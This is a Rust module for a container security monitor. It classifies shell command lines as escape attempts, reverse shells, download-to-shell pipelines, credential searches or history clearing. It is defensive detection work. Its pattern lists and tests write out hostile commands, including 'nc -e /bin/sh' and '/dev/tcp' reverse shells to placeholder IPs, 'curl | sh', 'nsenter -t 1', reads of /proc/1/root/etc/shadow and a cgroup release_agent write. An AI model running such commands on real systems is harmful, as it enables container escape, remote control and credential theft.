//! Command-line analysis shared by the exec and process rules: is the command a shell, and
//! which known tools does it run (escape, reverse shell, download, recon...), graded.
//!
//! The analysis works on an argv (an exec's entrypoint + arguments, or a `ps` command line
//! split at spaces). A shell given an inline script (`sh -c '<script>'`) has its script
//! parsed too: simple commands, pipelines (`curl ... | sh`), `$(...)` substitutions and
//! redirections, with quotes honoured. It is a classifier, not a shell: it errs towards
//! reporting a tool name in command position.

use crate::risk::Severity;

use Severity::{Critical as C, High as H, Medium as M};

/// Shells, by basename (Falco's `shell_binaries` plus a few).
pub const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "ash",
    "dash",
    "zsh",
    "ksh",
    "mksh",
    "pdksh",
    "csh",
    "tcsh",
    "fish",
    "rbash",
    "busybox-sh",
];

/// What kind of tool a hit is; each kind maps to an exec rule and a process rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ToolKind {
    /// Container escape tooling (namespaces, mounts, kernel modules, runtime clients).
    Escape,
    /// A program handed to a network peer (`nc -e`, `/dev/tcp`).
    ReverseShell,
    /// A download fed straight into a shell (`curl ... | sh`).
    DownloadToShell,
    Download,
    /// Raw network tools (`nc`, `socat`) without an exec option.
    NetTool,
    /// `base64 -d` and friends.
    Decode,
    PackageManager,
    Scanner,
    Sniffer,
    /// `find / -name id_rsa`, `grep -r password`.
    KeySearch,
    HistoryClear,
}

/// One tool found in a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    pub kind: ToolKind,
    pub severity: Severity,
    /// Short human text, e.g. `nsenter targeting PID 1 (enters the host's namespaces)`.
    pub what: String,
}

/// The result of analysing one command line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Analysis {
    /// Basename of the program when it is a shell (`bash`).
    pub shell: Option<String>,
    /// The shell was given an inline script (`-c`).
    pub inline_script: bool,
    /// Tools found, worst first, without duplicates.
    pub hits: Vec<Hit>,
}

impl Analysis {
    /// The worst hit, if any.
    pub fn worst(&self) -> Option<&Hit> {
        self.hits.first()
    }
}

/// Escape tools by basename: severity and why.
const ESCAPE_TOOLS: &[(&str, Severity, &str)] = &[
    ("nsenter", H, "enters another process's namespaces"),
    ("unshare", H, "creates new namespaces"),
    ("chroot", H, "switches to another root file system"),
    ("mount", H, "mounts a file system"),
    ("debugfs", H, "edits a raw file system"),
    ("insmod", C, "loads a kernel module"),
    ("modprobe", C, "loads a kernel module"),
    ("capsh", H, "manipulates capabilities"),
    ("docker", H, "drives a Docker daemon"),
    ("ctr", H, "drives containerd"),
    ("crictl", H, "drives the container runtime"),
    ("nerdctl", H, "drives containerd"),
    ("podman", H, "drives a container engine"),
    ("runc", H, "drives the OCI runtime"),
    ("kubectl", H, "drives the Kubernetes API"),
];

/// Escape techniques recognised anywhere in the text.
const ESCAPE_PATTERNS: &[(&str, ToolKind, Severity, &str)] = &[
    (
        "/proc/1/root",
        ToolKind::Escape,
        C,
        "/proc/1/root (walks into PID 1's root file system)",
    ),
    (
        "release_agent",
        ToolKind::Escape,
        C,
        "release_agent (cgroup v1 escape: a host command run as root)",
    ),
    (
        "core_pattern",
        ToolKind::Escape,
        C,
        "core_pattern (the host kernel runs a program as root on a crash)",
    ),
    (
        "uevent_helper",
        ToolKind::Escape,
        C,
        "uevent_helper (the host kernel runs a program as root on a device event)",
    ),
    (
        "docker.sock",
        ToolKind::Escape,
        H,
        "docker.sock (talks to the Docker API)",
    ),
    (
        "/dev/tcp/",
        ToolKind::ReverseShell,
        H,
        "/dev/tcp redirection (reverse shell)",
    ),
    (
        "/dev/udp/",
        ToolKind::ReverseShell,
        H,
        "/dev/udp redirection (reverse shell)",
    ),
];

const NET_TOOLS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet"];
const DOWNLOAD_TOOLS: &[&str] = &["curl", "wget", "aria2c", "tftp", "ftp", "fetch"];
const PACKAGE_MANAGERS: &[&str] = &[
    "apt", "apt-get", "aptitude", "apk", "yum", "dnf", "microdnf", "zypper", "pip", "pip3", "gem",
];
const SCANNERS: &[&str] = &["nmap", "masscan", "zmap", "nping"];
const SNIFFERS: &[&str] = &["tcpdump", "tshark", "dumpcap"];
const SEARCH_TOOLS: &[&str] = &["find", "grep", "egrep", "fgrep", "rg", "locate", "ag"];
const KEY_WORDS: &[&str] = &[
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    ".pem",
    "private key",
    "private_key",
    "password",
    "passwd",
    "aws_secret",
    ".aws/credentials",
    "wallet",
];
/// Programs that run their arguments as a command.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "nohup", "exec", "time", "nice", "ionice", "timeout", "xargs",
    "command", "busybox", "stdbuf", "setsid", "watch",
];

/// How deep `sh -c` / `$(...)` nesting is followed.
const MAX_DEPTH: usize = 4;

/// The last path component, lower-cased.
pub fn basename(word: &str) -> String {
    word.rsplit('/').next().unwrap_or(word).to_ascii_lowercase()
}

/// Is this program name (path or basename) a shell?
pub fn is_shell(word: &str) -> bool {
    SHELLS.contains(&basename(word).as_str())
}

/// Analyse an argv: an exec's entrypoint followed by its arguments.
pub fn analyse_argv(argv: &[String]) -> Analysis {
    let mut hits = Vec::new();
    let raw = argv.join(" ");
    pattern_hits(&raw, &mut hits);
    let mut out = Analysis::default();
    if let Some(i) = command_index(argv) {
        let cmd = &argv[i..];
        if is_shell(&cmd[0]) {
            out.shell = Some(basename(&cmd[0]));
            out.inline_script = shell_script(&cmd[1..]).is_some();
        }
        classify(cmd, 0, &mut hits);
    }
    out.hits = finish(hits);
    out
}

/// Analyse a `ps` command line (argv joined by spaces; quoting is lost).
pub fn analyse_line(line: &str) -> Analysis {
    let argv: Vec<String> = line.split_whitespace().map(str::to_string).collect();
    analyse_argv(&argv)
}

/// Sort worst first and drop duplicates.
fn finish(mut hits: Vec<Hit>) -> Vec<Hit> {
    hits.sort_by(|a, b| {
        b.severity
            .cmp(&a.severity)
            .then(a.kind.cmp(&b.kind))
            .then(a.what.cmp(&b.what))
    });
    hits.dedup_by(|a, b| a.kind == b.kind && a.what == b.what);
    hits
}

fn pattern_hits(raw: &str, hits: &mut Vec<Hit>) {
    let lower = raw.to_ascii_lowercase();
    for (pat, kind, sev, what) in ESCAPE_PATTERNS {
        if lower.contains(pat) {
            hits.push(Hit {
                kind: *kind,
                severity: *sev,
                what: (*what).to_string(),
            });
        }
    }
    for marker in ["histfile=/dev/null", "histsize=0", "histfilesize=0"] {
        if lower.contains(marker) {
            hits.push(history_hit(marker));
        }
    }
}

fn history_hit(how: &str) -> Hit {
    Hit {
        kind: ToolKind::HistoryClear,
        severity: M,
        what: format!("{how} (clears shell history)"),
    }
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// Index of the program word of a simple command, skipping `VAR=value` assignments and
/// wrappers such as `sudo`, `env` and `busybox`.
fn command_index(words: &[String]) -> Option<usize> {
    let mut i = 0;
    while i < words.len() {
        let w = &words[i];
        if is_assignment(w) {
            i += 1;
            continue;
        }
        let b = basename(w);
        if WRAPPERS.contains(&b.as_str()) {
            i += 1;
            while i < words.len() && words[i].starts_with('-') {
                i += 1;
            }
            if b == "timeout"
                && words
                    .get(i)
                    .is_some_and(|w| w.starts_with(|c: char| c.is_ascii_digit()))
            {
                i += 1;
            }
            continue;
        }
        return Some(i);
    }
    None
}

/// `-c`, or a short option cluster containing `c` (`-ec`, `-xc`).
fn is_c_flag(arg: &str) -> bool {
    arg.starts_with('-')
        && !arg.starts_with("--")
        && arg.len() > 1
        && arg[1..].chars().all(|c| c.is_ascii_alphabetic())
        && arg.contains('c')
}

/// The inline script of a shell's arguments (`-c <script>`). The words after the script
/// are joined to it: in a real argv they are positional parameters (harmless to scan), in
/// a command line rebuilt from an event payload or a `ps` line they are the rest of the
/// script, split at spaces.
fn shell_script(args: &[String]) -> Option<String> {
    let pos = args.iter().position(|a| is_c_flag(a))?;
    let rest = args.get(pos + 1..).filter(|r| !r.is_empty())?;
    Some(rest.join(" "))
}

fn has_any(args: &[String], flags: &[&str]) -> bool {
    args.iter().any(|a| flags.contains(&a.as_str()))
}

/// Classify one simple command (`cmd[0]` is the program). Returns (is a shell, is a download).
fn classify(cmd: &[String], depth: usize, hits: &mut Vec<Hit>) -> (bool, bool) {
    let name = basename(&cmd[0]);
    let args = &cmd[1..];
    let lower_args: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    let n = name.as_str();
    // Substitutions inside arguments (`echo $(curl ...)`): analyse them as scripts.
    for a in args {
        if depth < MAX_DEPTH && (a.contains("$(") || a.contains('`') || a.contains("<(")) {
            script_hits(a, depth + 1, hits);
        }
    }
    let mut push = |kind, severity, what: String| {
        hits.push(Hit {
            kind,
            severity,
            what,
        })
    };

    if SHELLS.contains(&n) {
        if let Some(script) = shell_script(args)
            && depth < MAX_DEPTH
        {
            let lower = script.to_ascii_lowercase();
            if DOWNLOAD_TOOLS
                .iter()
                .any(|t| lower.contains(&format!("$({t} ")) || lower.contains(&format!("`{t} ")))
            {
                push(
                    ToolKind::DownloadToShell,
                    H,
                    format!("{n} runs a downloaded script"),
                );
            }
            script_hits(&script, depth + 1, hits);
        } else if lower_args
            .iter()
            .any(|a| a.starts_with("<(") && DOWNLOAD_TOOLS.iter().any(|t| a.contains(t)))
        {
            push(
                ToolKind::DownloadToShell,
                H,
                format!("{n} runs a downloaded script"),
            );
        }
        return (true, false);
    }
    if let Some((_, sev, why)) = ESCAPE_TOOLS.iter().find(|(t, _, _)| *t == n) {
        let mut sev = *sev;
        let mut what = format!("{n} ({why})");
        if n == "nsenter" && targets_pid1(&lower_args) {
            sev = C;
            what = format!("nsenter targeting PID 1 ({why}: the host's, with host PID)");
        }
        if n == "mount" && args.is_empty() {
            // Plain `mount` only lists mounts.
            return (false, false);
        }
        push(ToolKind::Escape, sev, what);
        return (false, false);
    }
    if NET_TOOLS.contains(&n) {
        let exec_opt = has_any(args, &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"])
            || lower_args
                .iter()
                .any(|a| a.contains("exec:") || a.contains("system:"));
        if exec_opt {
            push(
                ToolKind::ReverseShell,
                H,
                format!("{n} executing a program for a network peer (reverse or bind shell)"),
            );
        } else {
            push(
                ToolKind::NetTool,
                M,
                format!("{n} (raw network connections)"),
            );
        }
        return (false, false);
    }
    if DOWNLOAD_TOOLS.contains(&n) {
        push(ToolKind::Download, M, format!("{n} (downloads files)"));
        return (false, true);
    }
    if (n == "base64" && has_any(args, &["-d", "--decode", "-D"]))
        || (n == "openssl" && lower_args.iter().any(|a| a == "base64") && has_any(args, &["-d"]))
        || (n == "xxd" && has_any(args, &["-r"]))
    {
        push(
            ToolKind::Decode,
            M,
            format!("{n} decoding (hidden payloads)"),
        );
        return (false, false);
    }
    if PACKAGE_MANAGERS.contains(&n) {
        push(
            ToolKind::PackageManager,
            M,
            format!("{n} (installs software into the running container)"),
        );
        return (false, false);
    }
    if SCANNERS.contains(&n) {
        push(ToolKind::Scanner, M, format!("{n} (network scanning)"));
        return (false, false);
    }
    if SNIFFERS.contains(&n) {
        push(
            ToolKind::Sniffer,
            M,
            format!("{n} (captures network traffic)"),
        );
        return (false, false);
    }
    if SEARCH_TOOLS.contains(&n)
        && let Some(word) = KEY_WORDS
            .iter()
            .find(|k| lower_args.iter().any(|a| a.contains(*k)))
    {
        push(
            ToolKind::KeySearch,
            M,
            format!("{n} searching for {word} (credential hunting)"),
        );
        return (false, false);
    }
    let touches_history = lower_args.iter().any(|a| a.contains("history"));
    if (n == "history" && has_any(args, &["-c", "-w"]))
        || (["rm", "shred", "truncate", "unlink", "ln"].contains(&n) && touches_history)
        || (n == "unset" && lower_args.iter().any(|a| a.starts_with("hist")))
    {
        let how = if n == "history" {
            "history -c".to_string()
        } else {
            format!("{n} on a history file")
        };
        push(
            ToolKind::HistoryClear,
            M,
            format!("{how} (clears shell history)"),
        );
    }
    (false, false)
}

fn targets_pid1(args: &[String]) -> bool {
    args.windows(2)
        .any(|w| (w[0] == "-t" || w[0] == "--target") && w[1] == "1")
        || args
            .iter()
            .any(|a| a == "-t1" || a == "--target=1" || a == "-at1" || a == "-t=1")
}

/// Tokens of a shell script.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(String),
    /// `|`: the next command reads this one's output.
    Pipe,
    /// `;`, `&&`, `||`, `&`, newline, `(`, `)`, `` ` ``, `$(`, `<(`.
    Sep,
    /// `>`, `>>`, `<`, `>&`: the next word is a file, not a command.
    Redir,
}

fn tokenize(script: &str) -> Vec<Tok> {
    let chars: Vec<char> = script.chars().collect();
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut has = false;
    let flush = |cur: &mut String, has: &mut bool, out: &mut Vec<Tok>| {
        if *has || !cur.is_empty() {
            out.push(Tok::Word(std::mem::take(cur)));
        }
        *has = false;
    };
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        let next = chars.get(i + 1).copied();
        match c {
            '\'' => {
                has = true;
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    cur.push(chars[i]);
                    i += 1;
                }
            }
            '"' => {
                has = true;
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    if chars[i] == '\\' && i + 1 < chars.len() {
                        i += 1;
                    }
                    cur.push(chars[i]);
                    i += 1;
                }
            }
            '\\' => {
                if let Some(n) = next {
                    cur.push(n);
                    has = true;
                    i += 1;
                }
            }
            '|' => {
                flush(&mut cur, &mut has, &mut out);
                if next == Some('|') {
                    i += 1;
                    out.push(Tok::Sep);
                } else {
                    out.push(Tok::Pipe);
                }
            }
            ';' | '\n' | '(' | ')' | '`' | '&' => {
                flush(&mut cur, &mut has, &mut out);
                if c == '&' && next == Some('&') {
                    i += 1;
                }
                out.push(Tok::Sep);
            }
            '$' if next == Some('(') => {
                flush(&mut cur, &mut has, &mut out);
                i += 1;
                out.push(Tok::Sep);
            }
            '<' | '>' => {
                flush(&mut cur, &mut has, &mut out);
                if next == Some('(') {
                    i += 1;
                    out.push(Tok::Sep);
                } else {
                    while matches!(chars.get(i + 1), Some('>') | Some('&') | Some('<')) {
                        i += 1;
                    }
                    out.push(Tok::Redir);
                }
            }
            c if c.is_whitespace() => flush(&mut cur, &mut has, &mut out),
            c => cur.push(c),
        }
        i += 1;
    }
    flush(&mut cur, &mut has, &mut out);
    out
}

/// Analyse a shell script: each simple command, and pipelines that feed a download into a
/// shell.
fn script_hits(script: &str, depth: usize, hits: &mut Vec<Hit>) {
    pattern_hits(script, hits);
    // pipelines[i] = commands joined by `|`; each command is its words.
    let mut pipelines: Vec<Vec<Vec<String>>> = vec![vec![Vec::new()]];
    let mut after_redir = false;
    for tok in tokenize(script) {
        match tok {
            Tok::Word(w) => {
                if after_redir {
                    after_redir = false;
                    if w.to_ascii_lowercase().contains("history") {
                        hits.push(history_hit("redirection into a history file"));
                    }
                    continue;
                }
                if let Some(cmd) = pipelines.last_mut().and_then(|p| p.last_mut()) {
                    cmd.push(w);
                }
            }
            Tok::Pipe => {
                after_redir = false;
                if let Some(p) = pipelines.last_mut() {
                    p.push(Vec::new());
                }
            }
            Tok::Sep => {
                after_redir = false;
                pipelines.push(vec![Vec::new()]);
            }
            Tok::Redir => after_redir = true,
        }
    }
    for pipeline in &pipelines {
        let mut download_before = None;
        for cmd in pipeline {
            let Some(i) = command_index(cmd) else {
                continue;
            };
            let (shell, download) = classify(&cmd[i..], depth, hits);
            if shell && let Some(tool) = &download_before {
                hits.push(Hit {
                    kind: ToolKind::DownloadToShell,
                    severity: H,
                    what: format!(
                        "{tool} piped into {} (runs a downloaded script)",
                        basename(&cmd[i])
                    ),
                });
            }
            if download {
                download_before = Some(basename(&cmd[i]));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|s| s.to_string()).collect()
    }

    fn worst(words: &[&str]) -> Option<(ToolKind, Severity)> {
        analyse_argv(&argv(words))
            .worst()
            .map(|h| (h.kind, h.severity))
    }

    #[test]
    fn tools_are_graded() {
        use ToolKind::*;
        type Case<'a> = (&'a [&'a str], Option<(ToolKind, Severity)>);
        let cases: &[Case] = &[
            (&["ls", "-la"], None),
            (&["sh"], None),
            (&["/bin/sh", "-c", "id; uname -a"], None),
            (&["nsenter", "-t", "1", "-m", "sh"], Some((Escape, C))),
            (&["nsenter", "--net=/proc/5/ns/net"], Some((Escape, H))),
            (&["sh", "-c", "mount /dev/sda1 /mnt"], Some((Escape, H))),
            (&["mount"], None),
            (&["modprobe", "evil"], Some((Escape, C))),
            (&["cat", "/proc/1/root/etc/shadow"], Some((Escape, C))),
            (
                &["sh", "-c", "echo /x > /sys/fs/cgroup/rdma/release_agent"],
                Some((Escape, C)),
            ),
            (
                &["sh", "-c", "curl -s http://x/i.sh | sh"],
                Some((DownloadToShell, H)),
            ),
            (
                &["bash", "-c", "wget -qO- x | sudo bash"],
                Some((DownloadToShell, H)),
            ),
            (
                &["sh", "-c", "sh -c \"$(curl -fsSL x)\""],
                Some((DownloadToShell, H)),
            ),
            (&["curl", "-o", "/tmp/x", "http://x"], Some((Download, M))),
            (
                &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"],
                Some((ReverseShell, H)),
            ),
            (&["nc", "-l", "-p", "4444"], Some((NetTool, M))),
            (
                &["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"],
                Some((ReverseShell, H)),
            ),
            (
                &["sh", "-c", "echo aGk= | base64 -d > /tmp/x"],
                Some((Decode, M)),
            ),
            (&["apk", "add", "nmap"], Some((PackageManager, M))),
            (&["sh", "-c", "nmap -sS 10.0.0.0/24"], Some((Scanner, M))),
            (&["tcpdump", "-i", "eth0"], Some((Sniffer, M))),
            (&["find", "/", "-name", "id_rsa"], Some((KeySearch, M))),
            (&["grep", "-ri", "password", "/etc"], Some((KeySearch, M))),
            (&["find", "/", "-name", "*.log"], None),
            (&["sh", "-c", "history -c"], Some((HistoryClear, M))),
            (
                &["sh", "-c", "rm -f ~/.bash_history"],
                Some((HistoryClear, M)),
            ),
            (
                &["sh", "-c", "export HISTFILE=/dev/null"],
                Some((HistoryClear, M)),
            ),
            (
                &["sh", "-c", "cat /dev/null > ~/.ash_history"],
                Some((HistoryClear, M)),
            ),
            (&["sudo", "-E", "kubectl", "get", "pods"], Some((Escape, H))),
            (&["busybox", "nc", "-lp", "1"], Some((NetTool, M))),
            (&["echo", "nsenter"], None),
        ];
        for (cmd, want) in cases {
            assert_eq!(&worst(cmd), want, "{cmd:?}");
        }
    }

    #[test]
    fn shells_are_recognised_by_basename() {
        let a = analyse_argv(&argv(&["/usr/bin/bash", "-c", "id"]));
        assert_eq!(a.shell.as_deref(), Some("bash"));
        assert!(a.inline_script);
        let a = analyse_argv(&argv(&["env", "TERM=xterm", "zsh"]));
        assert_eq!(a.shell.as_deref(), Some("zsh"));
        assert!(!a.inline_script);
        assert_eq!(analyse_argv(&argv(&["/bin/shell-tool"])).shell, None);
    }

    #[test]
    fn ps_lines_are_analysed_like_argv() {
        let a = analyse_line("/bin/sh -c curl http://x | sh");
        assert_eq!(a.shell.as_deref(), Some("sh"));
        assert_eq!(a.worst().map(|h| h.kind), Some(ToolKind::DownloadToShell));
        assert_eq!(
            analyse_line("nsenter -t 1 -a").worst().map(|h| h.severity),
            Some(C)
        );
        assert!(analyse_line("nginx: worker process").hits.is_empty());
    }

    #[test]
    fn several_hits_are_listed_worst_first_without_duplicates() {
        let a = analyse_argv(&argv(&[
            "sh",
            "-c",
            "apk add curl; curl x -o /tmp/a; curl y -o /tmp/b; nsenter -t 1 -m",
        ]));
        let kinds: Vec<ToolKind> = a.hits.iter().map(|h| h.kind).collect();
        assert_eq!(
            kinds,
            vec![
                ToolKind::Escape,
                ToolKind::Download,
                ToolKind::PackageManager
            ]
        );
    }
}
